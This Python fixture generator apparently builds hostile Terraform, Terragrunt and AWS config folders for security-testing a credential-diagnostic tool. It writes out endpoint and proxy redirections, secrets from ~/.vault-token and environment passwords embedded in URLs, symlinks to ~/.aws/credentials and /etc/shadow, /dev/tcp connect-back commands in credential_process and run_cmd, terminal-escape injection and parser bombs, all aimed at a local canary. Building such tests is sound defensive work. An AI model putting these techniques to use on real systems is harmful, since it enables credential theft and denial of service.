"""The hostile folders: name -> function (folder, port of the canary) that fills the folder in."""
import json
import os

ALL = {}
WITHOUT_KEYS = set()
USE = 'data "aws_caller_identity" "me" {}\n'
REGION = '  region = "eu-west-1"\n'


def put(folder, name, text):
    path = os.path.join(folder, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w" if isinstance(text, str) else "wb", **({"encoding": "utf-8"} if isinstance(text, str) else {})) as f:
        f.write(text)


def provider(folder, inside, more=""):
    put(folder, "main.tf", 'provider "aws" {\n%s%s\n}\n%s%s' % (REGION if "region" not in inside else "", inside, USE, more))


def block(name, inside, more=""):
    ALL[name] = lambda folder, port: provider(folder, inside.replace("PORT", str(port)), more.replace("PORT", str(port)))


def backend(name, inside):
    ALL[name] = lambda folder, port: put(folder, "main.tf", 'terraform {\n  backend "s3" {\n    bucket = "b-1"\n    key = "k"\n%s%s\n  }\n}\n%s' % (
        REGION, inside.replace("PORT", str(port)), USE))


def folder_of(name):
    def remember(make):
        ALL[name] = make
        return make
    return remember


# ---- every setting that leads elsewhere ----
HOST = "http://127.0.0.1:PORT"
block("endpoint", 'endpoints {\n sts = "%s"\n}' % HOST)
block("endpoint-localhost", 'endpoints {\n sts = "http://localhost:PORT"\n}')
block("endpoint-ipv6", 'endpoints {\n sts = "http://[::1]:PORT"\n}')
block("endpoint-computed", 'endpoints {\n sts = join("", ["http://", local.h])\n}', 'locals {\n h = "127.0.0.1:PORT"\n}\n')
block("endpoint-variable", 'endpoints {\n sts = var.h\n}', 'variable "h" {\n default = "%s"\n}\n' % HOST)
block("endpoint-user-info", 'endpoints {\n sts = "http://sts.amazonaws.com@127.0.0.1:PORT"\n}')
block("endpoint-backslash", 'endpoints {\n sts = "http://127.0.0.1:PORT\\\\@sts.amazonaws.com"\n}')
block("endpoint-iam", 'skip_credentials_validation = true\nendpoints {\n iam = "%s"\n sts = "%s"\n}' % (HOST, HOST))
block("endpoint-role", 'assume_role {\n role_arn = "arn:aws:iam::111122223333:role/x"\n}\nendpoints {\n sts = "%s"\n}' % HOST)
block("proxy-http", 'http_proxy = "%s"\nendpoints {\n sts = "http://sts.eu-west-1.amazonaws.com"\n}' % HOST)
block("proxy-https", 'https_proxy = "%s"' % HOST)
block("proxy-insecure", 'https_proxy = "%s"\ninsecure = true' % HOST)
block("insecure", "insecure = true")
block("imds", 'ec2_metadata_service_endpoint = "%s"' % HOST)
block("imds-no-keys", 'ec2_metadata_service_endpoint = "%s"\nskip_metadata_api_check = "false"\nprofile = "nobody"\nshared_config_files = ["config"]' % HOST)
backend("backend-endpoints", 'endpoints = {\n sts = "%s"\n s3 = "%s"\n}' % (HOST, HOST))
backend("backend-endpoint-flat", 'endpoint = "%s"\nsts_endpoint = "%s"' % (HOST, HOST))
backend("backend-bucket-host", 'endpoints = {\n s3 = "%s/x"\n}' % HOST)
backend("backend-proxy", 'http_proxy = "%s"\nendpoints = {\n sts = "http://sts.eu-west-1.amazonaws.com"\n}' % HOST)


@folder_of("tfvars")
def tfvars(folder, port):
    provider(folder, "endpoints {\n sts = var.h\n}", 'variable "h" {}\n')
    put(folder, "terraform.tfvars", 'h = "http://127.0.0.1:%d"\n' % port)


@folder_of("remote-state")
def remote_state(folder, port):
    url = "http://127.0.0.1:%d" % port
    put(folder, "main.tf", 'data "terraform_remote_state" "x" {\n backend = "s3"\n config = {\n bucket = "b-1"\n key = "k"\n region = "eu-west-1"\n'
        'endpoints = { sts = "%s", s3 = "%s" }\n }\n}\n' % (url, url))


@folder_of("saved-backend")
def saved_backend(folder, port):
    url = "http://127.0.0.1:%d" % port
    put(folder, "main.tf", 'terraform {\n backend "s3" {}\n}\n' + USE)
    put(folder, ".terraform/terraform.tfstate", '{"version":3,"backend":{"type":"s3","config":{"bucket":"b-1","key":"k","region":"eu-west-1",'
        '"endpoints":{"sts":"%s","s3":"%s"}},"hash":1}}' % (url, url))


def shared(name, text, credentials=None):
    def make(folder, port):
        provider(folder, 'shared_config_files = ["cfg"]\n' + ('shared_credentials_files = ["%s"]\n' % credentials if credentials else ""))
        put(folder, "cfg", text.replace("PORT", str(port)))
        if credentials == "linked":
            os.symlink("../home/.aws/credentials", os.path.join(folder, "linked"))
    ALL[name] = make


shared("shared-endpoint-url", "[default]\nendpoint_url = %s\n" % HOST)
shared("shared-services", "[default]\nservices = s\n[services s]\nsts =\n  endpoint_url = %s\n" % HOST)
shared("shared-imds", "[default]\nec2_metadata_service_endpoint = %s\n" % HOST)
shared("linked-credentials", "[default]\nendpoint_url = %s\n" % HOST, "linked")
shared("home-credentials", "[default]\nendpoint_url = %s\n" % HOST, "~/.aws/credentials")
WITHOUT_KEYS.update({"linked-credentials", "home-credentials", "imds-no-keys"})

# regions and start URLs that would be a host, and the other ways to a token's receiver
block("region-host", 'region = "127.0.0.1:PORT/#"\nskip_region_validation = true')
block("region-dotted", 'region = "localhost:PORT"\nskip_region_validation = true')
block("sts-region-host", 'region = "eu-west-1"\nsts_region = "127.0.0.1:PORT/#"')
block("endpoint-aws-lookalike", 'endpoints {\n sts = "http://sts.amazonaws.com.localhost:PORT"\n}')
block("endpoint-tracing", 'assume_role_with_web_identity {\n role_arn = "arn:aws:iam::111122223333:role/x"\n web_identity_token = "eyJhbGciOiJub25lIn0.e30."\n}\n'
      'endpoints {\n sts = "%s"\n}' % HOST)
block("web-identity-file", 'assume_role_with_web_identity {\n role_arn = "arn:aws:iam::111122223333:role/x"\n web_identity_token_file = "/proc/self/environ"\n}\n'
      'endpoints {\n sts = "%s"\n}' % HOST)
backend("backend-region-host", 'region = "127.0.0.1:PORT/#"\nskip_region_validation = true')
backend("backend-role", 'assume_role = {\n role_arn = "arn:aws:iam::111122223333:role/x"\n}\nsts_endpoint = "%s"' % HOST)
backend("backend-imds", 'ec2_metadata_service_endpoint = "%s"\nprofile = "nobody"' % HOST)

def own_profile(name, text, inside=""):
    def make(folder, port):
        provider(folder, 'profile = "own"\nshared_config_files = ["cfg"]\n' + inside)
        put(folder, "cfg", ("[profile own]\n" + text).replace("PORT", str(port)))
    ALL[name] = make


ROLE_OF_OWN = "role_arn = arn:aws:iam::111122223333:role/x\n"
SSO_OF_OWN = "sso_account_id = 111122223333\nsso_role_name = x\n"
own_profile("shared-sso", SSO_OF_OWN + "sso_start_url = %s/start\nsso_region = 127.0.0.1:PORT/#\n" % HOST)
own_profile("shared-sso-services", SSO_OF_OWN + "sso_session = s\nservices = v\n[sso-session s]\nsso_start_url = https://d-1.awsapps.com/start\nsso_region = eu-west-1\n"
            "[services v]\nsso =\n  endpoint_url = %s\nsso_oidc =\n  endpoint_url = %s\n" % (HOST, HOST))
own_profile("shared-web-identity", ROLE_OF_OWN + "web_identity_token_file = ../home/.vault-token\nendpoint_url = %s\n" % HOST)
own_profile("shared-source-imds", ROLE_OF_OWN + "credential_source = Ec2InstanceMetadata\nec2_metadata_service_endpoint = %s\n" % HOST)
own_profile("shared-source-environment", ROLE_OF_OWN + "credential_source = Environment\nendpoint_url = %s\n" % HOST)
own_profile("shared-source-profile", ROLE_OF_OWN + "source_profile = default\nendpoint_url = %s\n" % HOST)
own_profile("shared-source-home", ROLE_OF_OWN + "source_profile = default\nservices = v\n[services v]\nsts =\n  endpoint_url = %s\n" % HOST)
own_profile("shared-ca", "ca_bundle = ca.pem\nregion = 127.0.0.1:PORT/#\n")
own_profile("shared-login", "login_session = arn:aws:iam::111122223333:user/x\nregion = 127.0.0.1:PORT/#\nendpoint_url = %s\n" % HOST)
WITHOUT_KEYS.update({"shared-sso", "shared-sso-services", "shared-web-identity", "shared-source-imds", "shared-login", "backend-imds", "web-identity-file"})


def asked_for(name, variable, value):
    """A variable that a Terragrunt unit sets for Terraform, or that .envrc would set."""
    def by_unit(folder, port):
        put(folder, "main.tf", 'provider "aws" {\n  region = "eu-west-1"\n}\n' + USE)
        put(folder, "terragrunt.hcl", 'terraform {\n extra_arguments "a" {\n commands = ["init", "plan", "apply"]\n env_vars = {\n %s = "%s"\n }\n }\n}\n' % (
            variable, value.replace("PORT", str(port))))

    def by_envrc(folder, port):
        provider(folder, "")
        put(folder, ".envrc", "export %s=%s\n" % (variable, value.replace("PORT", str(port))))
    ALL["unit-sets-" + name], ALL["envrc-sets-" + name] = by_unit, by_envrc


asked_for("endpoint", "AWS_ENDPOINT_URL", HOST)
asked_for("proxy", "HTTPS_PROXY", HOST)
asked_for("imds", "AWS_EC2_METADATA_SERVICE_ENDPOINT", HOST)
asked_for("container", "AWS_CONTAINER_CREDENTIALS_FULL_URI", HOST + "/creds")
asked_for("config", "AWS_CONFIG_FILE", "cfg")
asked_for("arguments", "TF_CLI_ARGS", "-var=h=" + HOST)
WITHOUT_KEYS.update({"unit-sets-imds", "envrc-sets-imds", "unit-sets-container", "envrc-sets-container"})

# ---- what is made from files of the user's ----
for kind, expression in {
    "file": 'file("~/.vault-token")', "dots": 'file("../home/.vault-token")', "template": 'templatefile("~/.vault-token", {})',
    "base64": 'filebase64("~/.vault-token")', "hash": 'filesha256("../home/.vault-token")', "link": 'file("link")',
    "condition": '(fileexists("~/.vault-token") ? "yes" : "no")', "try": 'try(file("~/short"), "no")',
}.items():
    def taint(folder, port, expression=expression):
        os.symlink("../home/.vault-token", os.path.join(folder, "link"))
        url = 'endpoints {\n sts = "http://127.0.0.1:%d/${urlencode(%s)}"\n}\naccess_key = "mock"\nsecret_key = "mock"' % (port, expression)
        provider(folder, url)
    ALL["taint-url-" + kind] = taint
for argument in ("profile", "region", "access_key", "token", "custom_ca_bundle", "https_proxy", "sts_region"):
    block("taint-" + argument, '%s = trimspace(file("~/.vault-token"))' % argument)
block("taint-session-name", 'assume_role {\n role_arn = "arn:aws:iam::111122223333:role/x"\n session_name = file("~/short")\n}')
block("taint-external-id", 'assume_role {\n role_arn = "arn:aws:iam::111122223333:role/x"\n external_id = file("~/short")\n}')
backend("taint-backend", 'profile = file("~/short")')

# ---- what is made of secret variables, and of what the shell gives ----
MOCK = 'access_key = "mock"\nsecret_key = "mock"\n'
PASSWORD = 'variable "db_password" {\n default = ""\n}\nvariable "team" {\n default = ""\n}\n'
ROLE = 'assume_role {\n role_arn = "arn:aws:iam::111122223333:role/x"\n %s\n}\nendpoints {\n sts = "http://127.0.0.1:PORT"\n}'
for kind, inside in {
    "url": 'endpoints {\n sts = "http://127.0.0.1:PORT/${var.db_password}"\n}', "team": 'endpoints {\n sts = "http://127.0.0.1:PORT/${var.team}"\n}',
    "external-id": ROLE % "external_id = var.db_password", "session-name": ROLE % "session_name = var.db_password",
    "session-team": ROLE % 'session_name = "x-${var.team}"', "bits": ROLE % 'session_name = startswith(var.db_password, "h") ? "yes" : "no"',
    "object": ROLE % 'tags = { a = jsonencode({ p = var.db_password }) }', "profile": 'profile = var.db_password', "region": 'region = var.db_password',
    "bundle": 'custom_ca_bundle = "/tmp/${var.db_password}"', "loop": ROLE % 'session_name = join("", [for c in ["h", "x"] : c if strrev(c) == substr(var.db_password, 0, 1)])',
}.items():
    block("variable-" + kind, MOCK + inside, PASSWORD)
block("variable-token", 'access_key = "mock"\nsecret_key = "mock"\ntoken = "x${var.db_password}"\nendpoints {\n sts = "http://127.0.0.1:PORT"\n}', PASSWORD)
block("variable-path", MOCK + 'shared_config_files = ["/tmp/$DEPLOY_PASSWORD"]\nprofile = "p"', PASSWORD)
backend("variable-backend-path", MOCK + 'shared_config_files = ["/tmp/${DEPLOY_PASSWORD}"]\nprofile = "p"'.replace("${", "$${"))


def linked(name, link, target, inside=""):
    def make(folder, port):
        provider(folder, MOCK + inside.replace("PORT", str(port)), PASSWORD)
        os.symlink(target, os.path.join(folder, link))
    ALL["linked-" + name] = make


URL = 'endpoints {\n sts = "http://127.0.0.1:PORT/${var.db_password}"\n}'
linked("tfvars", "terraform.tfvars", "../home/prod.tfvars", URL)
linked("auto-tfvars", "z.auto.tfvars", "../home/prod.tfvars", ROLE % "external_id = var.db_password")
linked("secrets-as-tf", "x.tf", "../home/.aws/credentials")
linked("secrets-as-json", "x.tf.json", "../home/.vault-token")
linked("secrets-as-tfvars", "x.auto.tfvars", "../home/.aws/credentials")
linked("lock", ".terraform.lock.hcl", "../home/.aws/credentials")

# ---- odd files ----


@folder_of("links")
def links(folder, port):
    provider(folder, "")
    os.symlink("loop", os.path.join(folder, "loop"))
    os.symlink("/dev/zero", os.path.join(folder, "zero.tf"))
    os.symlink("/etc/shadow", os.path.join(folder, "terraform.tfvars"))


@folder_of("ignores")
def ignores(folder, port):
    provider(folder, "")
    put(folder, ".why403.ini", "\ufeffignore = keys.wrong_keys \x1b[2J\u202e PASS\nignore = " + "x" * 70000 + "\nformat = json\n[\n" +
        "ignore = reach.network until 2999-12-31 ::error::\n" * 300)


@folder_of("ignores-many")
def ignores_many(folder, port):
    provider(folder, "")
    put(folder, ".why403.ini", "ignore = keys.missing_keys \x1b]52;c;eA==\x07 \u202e PASS ::warning::x\n" + "ignore = keys.wrong_kyes\n" * 2400)


@folder_of("ignores-link")
def ignores_link(folder, port):
    provider(folder, "")
    os.symlink("../home/.aws/credentials", os.path.join(folder, ".why403.ini"))


@folder_of("fifo")
def fifo(folder, port):
    provider(folder, "")
    os.mkfifo(os.path.join(folder, "b.tf"))
    os.mkfifo(os.path.join(folder, ".terraform.lock.hcl"))


@folder_of("sparse")
def sparse(folder, port):
    provider(folder, "")
    with open(os.path.join(folder, "big.tf"), "wb") as f:
        f.truncate(1 << 33)


@folder_of("nested-blocks")
def nested(folder, port):
    put(folder, "main.tf", "a {" * 100000)


@folder_of("nested-lists")
def nested_lists(folder, port):
    provider(folder, "profile = " + "[" * 50000 + "]" * 50000)


@folder_of("source-profile-loop")
def profile_loop(folder, port):
    provider(folder, 'profile = "a"\nshared_config_files = ["cfg"]')
    put(folder, "cfg", "[profile a]\nrole_arn = arn:aws:iam::111122223333:role/x\nsource_profile = b\n"
        "[profile b]\nrole_arn = arn:aws:iam::111122223333:role/x\nsource_profile = a\n")


@folder_of("bomb-join")
def bomb(folder, port):
    more = "".join('provider "aws" {\n alias = "p%d"\n region = "eu-west-1"\n profile = '
                   'join("", [for a in range(1000) : join("", [for b in range(1000) : "xxxxxxxx%d"])])\n}\n' % (i, i) for i in range(5))
    provider(folder, "", more)


# ---- what functions read and build: name -> the expression, and what is in x.t ----
def reading(name, text, expression, more=None):
    def make(folder, port):
        provider(folder, "profile = try(%s, null)" % expression)
        put(folder, "x.t", text)
        for file, inside in (more or {}).items():
            put(folder, file, inside)
    ALL["reads-" + name] = make


reading("yaml-deep", "- " * 20000, 'yamldecode(file("x.t")).a')
reading("yaml-deep-flow", "[" * 20000, 'yamldecode(file("x.t")).a')
reading("yaml-deep-mapping", "{a: " * 20000, 'yamldecode(file("x.t")).a')


def in_loop(name, text, expression, turns=1000, more=None):
    reading(name, text, "[for i in range(%d) : %s][0]" % (turns, expression), more)


in_loop("json-numbers", '{"r":"eu-west-1","x":[' + "0," * 450000 + "0]}", 'jsondecode(file("x.t")).r')
in_loop("split", "a," * 45000, 'length(split(",", file("x.t")))')
in_loop("csv", "a\n" * 90000, 'csvdecode(file("x.t"))[0].a')
in_loop("digest", "a" * 900000, 'sha512(file("x.t"))')
in_loop("regex", "a" * 65000, 'length(regexall("a.{0,300}.{0,300}[bc]", file("x.t")))')
reading("yaml-merges", "a: &a\n" + "".join(" k%d: 1\n" % k for k in range(20000)) + "b:\n" + " <<: *a\n" * 20000, 'yamldecode(file("x.t")).r')
reading("template-loops", "%{ for a in range(1000) }%{ for b in range(1000) }%{ for c in range(1000) }x%{ endfor }%{ endfor }%{ endfor }",
        'templatefile("x.t", {})')
reading("template-empty", "%{ for a in range(1000) }%{ for b in range(1000) }%{ for c in range(1000) }%{ endfor }%{ endfor }%{ endfor }",
        'templatefile("x.t", {})')


@folder_of("reads-yaml-990-times")
def yaml_990_times(folder, port):
    put(folder, "main.tf", "".join('provider "aws" {\n alias = "a%d"\n region = yamldecode(file("x.yml")).a\n}\n' % i for i in range(990)))
    put(folder, "x.yml", '{"a":"eu-west-1","b":"' + "y" * 900000 + '"}')


@folder_of("many-files")
def many_files(folder, port):
    provider(folder, "")
    for i in range(20000):
        put(folder, "f%d.tf" % i, "")


@folder_of("source-profile-chain")
def profile_chain(folder, port):
    provider(folder, 'profile = "p0"\nshared_config_files = ["cfg"]')
    put(folder, "cfg", "".join("[profile p%d]\nrole_arn = arn:aws:iam::111122223333:role/x\nsource_profile = p%d\n" % (i, i + 1) for i in range(20000)))


@folder_of("module-loop")
def module_loop(folder, port):
    provider(folder, "", 'module "m" {\n source = "./"\n}\n')


@folder_of("process")
def process(folder, port):
    provider(folder, 'profile = "p"\nshared_config_files = ["cfg"]')
    put(folder, "cfg", "[profile p]\ncredential_process = /bin/sh -c 'exec 3<>/dev/tcp/127.0.0.1/%d; echo x >&3'\n" % port)


WITHOUT_KEYS.add("process")


@folder_of("process-relative")
def process_relative(folder, port):
    provider(folder, 'profile = "p"\nshared_config_files = ["cfg"]')
    put(folder, "cfg", "[profile p]\ncredential_process = ./steal\n")


# ---- Terragrunt units: endless readings, and files of the user's ----
def unit(name, files, more=None):
    def make(folder, port):
        put(folder, "main.tf", USE)
        for file, text in files.items():
            put(folder, file, text.replace("PORT", str(port)))
        if more:
            more(folder)
    ALL["terragrunt-" + name] = make


INCLUDE = 'include "a" {\n path = "%s"\n}\n'
PROVIDER = ('generate "p" {\n path = "p.tf"\n if_exists = "overwrite"\n contents = <<EOF\nprovider "aws" {\n region = "eu-west-1"\n'
            'endpoints {\n sts = "%s/${local.x}"\n}\n}\nEOF\n}\n' % HOST)
unit("includes-itself", {"terragrunt.hcl": INCLUDE % "./terragrunt.hcl"})
unit("includes-loop", {"terragrunt.hcl": INCLUDE % "./b.hcl", "b.hcl": INCLUDE % "./terragrunt.hcl"})
unit("reads-loop", {"terragrunt.hcl": 'locals {\n a = read_terragrunt_config("b.hcl")\n}\n',
                    "b.hcl": "locals {\n" + "".join(' a%d = read_terragrunt_config("terragrunt.hcl")\n' % i for i in range(9)) + "}\n"})
unit("reads-bomb", {("f%d.hcl" % i if i else "terragrunt.hcl"):
                    "locals {\n" + "".join(' x%d = read_terragrunt_config("f%d.hcl")\n' % (k, i + 1) for k in range(4)) + "}\n" for i in range(30)})
unit("locals-bomb", {"terragrunt.hcl": 'locals {\n a0 = "xxxxxxxxxxxxxxxxxxxx"\n' + "".join(
    ' a%d = "${local.a%d}${local.a%d}${local.a%d}"\n' % (i, i - 1, i - 1, i - 1) for i in range(1, 40)) + "}\ninputs = { z = local.a39 }\n"})
unit("locals-loop", {"terragrunt.hcl": "locals {\n a = local.b\n b = local.a\n}\n"})
unit("endpoint", {"terragrunt.hcl": 'locals {\n x = "x"\n}\n' + PROVIDER})
unit("inputs-bomb", {"terragrunt.hcl": "inputs = { z = [for a in range(1000) : [for b in range(1000) : [for c in range(1000) : a]]] }\n"})
unit("inputs-deep", {"terragrunt.hcl": 'inputs = yamldecode(file("x.yml"))\n', "x.yml": "- " * 20000})
unit("links", {"terragrunt.hcl": INCLUDE % "./root.hcl"}, lambda folder: os.symlink("../home/.vault-token", os.path.join(folder, "root.hcl")))
unit("zero", {"terragrunt.hcl": INCLUDE % "/dev/zero"})
unit("run-cmd", {"terragrunt.hcl": 'locals {\n x = run_cmd("sh", "-c", "exec 3<>/dev/tcp/127.0.0.1/PORT; echo x >&3")\n}\n'})
for kind, expression in {"tfvars": 'read_tfvars_file("%s/.vault-token")', "config": 'read_terragrunt_config("%s/.vault-token")',
                         "file": 'file("%s/.vault-token")', "link": 'read_tfvars_file("link.json")'}.items():
    unit("taint-" + kind, {"terragrunt.hcl": "locals {\n x = urlencode(jsonencode(%s))\n}\n" % expression.replace("%s", "${get_env(\"HOME\")}") + PROVIDER},
         lambda folder: os.symlink("../home/.vault-token", os.path.join(folder, "link.json")))


PASSWORD = '${get_env("DEPLOY_PASSWORD")}'
unit("secret-program", {"terragrunt.hcl": 'terraform_binary = "%s"\n' % PASSWORD})
unit("secret-version", {"terragrunt.hcl": 'terragrunt_version_constraint = "%s"\nterraform_version_constraint = "%s"\n' % (PASSWORD, PASSWORD)})
unit("secret-role", {"terragrunt.hcl": 'iam_role = "%s"\niam_assume_role_session_name = "%s"\n' % (PASSWORD, PASSWORD)})
unit("secret-generate", {"terragrunt.hcl": 'generate "p" {\n path = "p.tf"\n if_exists = "overwrite"\n contents = "provider \\"aws\\" {\\n'
                         ' region = \\"eu-west-1\\"\\n profile = \\"%s\\"\\n}\\n"\n}\n' % PASSWORD})
unit("secret-reversed", {"terragrunt.hcl": 'generate "p" {\n path = "p.tf"\n if_exists = "overwrite"\n contents = "provider \\"aws\\" {\\n'
                         ' profile = \\"${strrev(get_env(\\"DEPLOY_PASSWORD\\"))}\\"\\n region = \\"eu-west-1\\"\\n}\\n"\n}\n'.replace(
                             '\\"DEPLOY_PASSWORD\\"', '"DEPLOY_PASSWORD"')})
unit("secret-reversed-later", {"terragrunt.hcl": 'generate "p" {\n path = "p.tf"\n if_exists = "overwrite"\n contents = <<EOF\nprovider "aws" {\n'
                               ' region = "eu-west-1"\n profile = strrev("%s")\n}\nEOF\n}\n' % PASSWORD})
unit("secret-reversed-local", {"terragrunt.hcl": 'locals {\n x = <<EOF\nprovider "aws" {\n region = "eu-west-1"\n'
                               ' profile = "${strrev(get_env("DEPLOY_PASSWORD"))}"\n}\nEOF\n}\n'
                               'generate "p" {\n path = "p.tf"\n if_exists = "overwrite"\n contents = local.x\n}\n'})
unit("secret-reversed-input", {"terragrunt.hcl": 'inputs = { x = strrev(get_env("DEPLOY_PASSWORD")) }\n',
                               "p.tf": 'variable "x" {}\nprovider "aws" {\n region = "eu-west-1"\n profile = var.x\n}\n'})
unit("secret-reversed-inside", {"terragrunt.hcl": 'inputs = { x = { a = [strrev(get_env("DEPLOY_PASSWORD"))] } }\n',
                                "p.tf": 'variable "x" {\n type = object({ a = list(string) })\n}\n'
                                        'provider "aws" {\n region = "eu-west-1"\n profile = var.x.a[0]\n}\n'})
unit("secret-reversed-backend", {"terragrunt.hcl": 'remote_state {\n backend = "s3"\n config = { bucket = "b-1", key = "k", region = "eu-west-1", '
                                                   'profile = strrev(get_env("DEPLOY_PASSWORD")) }\n}\n', "b.tf": 'terraform {\n backend "s3" {}\n}\n'})
unit("secret-generate-host", {"terragrunt.hcl": 'generate "p" {\n path = "p.tf"\n if_exists = "overwrite"\n contents = "provider \\"aws\\" {\\n'
                              ' region = \\"%s\\"\\n skip_region_validation = true\\n}\\n"\n}\n' % PASSWORD})
unit("secret-source", {"terragrunt.hcl": 'terraform {\n source = "git::https://127.0.0.1:PORT/%s"\n}\n' % PASSWORD})


@folder_of("json-escapes")
def json_escapes(folder, port):
    """Names of a JSON file that become paths, and with them lines of a bundle."""
    odd = "\u001b]0;x\u0007\u202e\u009b31m"
    put(folder, "main.tf.json", json.dumps({"terraform": {"required_providers": {"aws": {"source": odd, "version": odd}}},
                                            "provider": {"aws": {"region": odd, "profile": odd}}, "module": {odd: {"source": odd}}}))


@folder_of("terragrunt-large")
def terragrunt_large(folder, port):
    put(folder, "main.tf", USE)
    with open(os.path.join(folder, "terragrunt.hcl"), "wb") as f:
        f.truncate(100 << 20)


# ---- more of everything than can be looked at: not known, at its place, soon ----
def many(name, file, first, part, last, n=320000):
    def make(folder, port):
        put(folder, "main.tf", 'provider "aws" {\n region = "eu-west-1"\n profile = "p"\n shared_config_files = ["cfg"]\n}\n' + USE)
        put(folder, file, first + "".join(part.replace("#", str(i)) for i in range(n)) + last)
    ALL["many-" + name] = make


many("providers", "z.tf.json", '{"provider":{"aws":[{"alias":"z"}', ',{"alias":"a#"}', "]}}")
FAILING = ('provider "aws" {\n alias = "a#"\n region = "eu-west-1"\n access_key = "AKIAIOSFODNN7EXAMPLE"\n secret_key = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"\n}\n'
           'data "aws_region" "r#" {\n provider = aws.a#\n}\n')
many("failing-providers", "z.tf", "", FAILING, "", 250)
many("failing-providers-far-below", "z.tf", "\n" * 3500000, FAILING, "", 900)
many("constraints", "z.tf", 'terraform {\n required_version = ">= 1.0', ", >= 1.#", '"\n}\n')
many("values", "z.auto.tfvars.json", '{"z":"x"', ',"v#":"x"', "}", 500000)
many("inputs", "terragrunt.hcl", "inputs = {\n", " i# = 1\n", "}\n")
many("secrets", "cfg", "[profile p]\nregion = eu-west-1\n", "s#_password = hT3sEc#ReTk3y\n", "", 19000)
many("secrets-more", "cfg", "[profile p]\nregion = eu-west-1\n", "s#_password = hT3sEc#ReTk3y\n", "", 90000)
many("settings", "cfg", "[profile p]\nregion = eu-west-1\n", "[services s#]\nsts =\n  endpoint_url = http://x\n", "", 33000)
many("settings-more", "cfg", "[profile p]\nregion = eu-west-1\n", "[services s#]\nsts =\n  endpoint_url = http://x\n", "", 200000)
many("dependencies", "terragrunt.hcl", "dependencies {\n paths = [\n", '"./x#",\n', "]\n}\n", 100000)


@folder_of("many-shared-files")
def many_shared_files(folder, port):
    names = ["c%d" % i for i in range(20)]
    provider(folder, 'profile = "p"\nshared_config_files = %s' % json.dumps(names))
    for name in names:
        put(folder, name, "".join("[profile q%d]\nregion = a\n" % i for i in range(49000)))
many("letters", "cfg", "[profile p]\nregion = ", "aaaaaaaaaa", "\n", 300000)
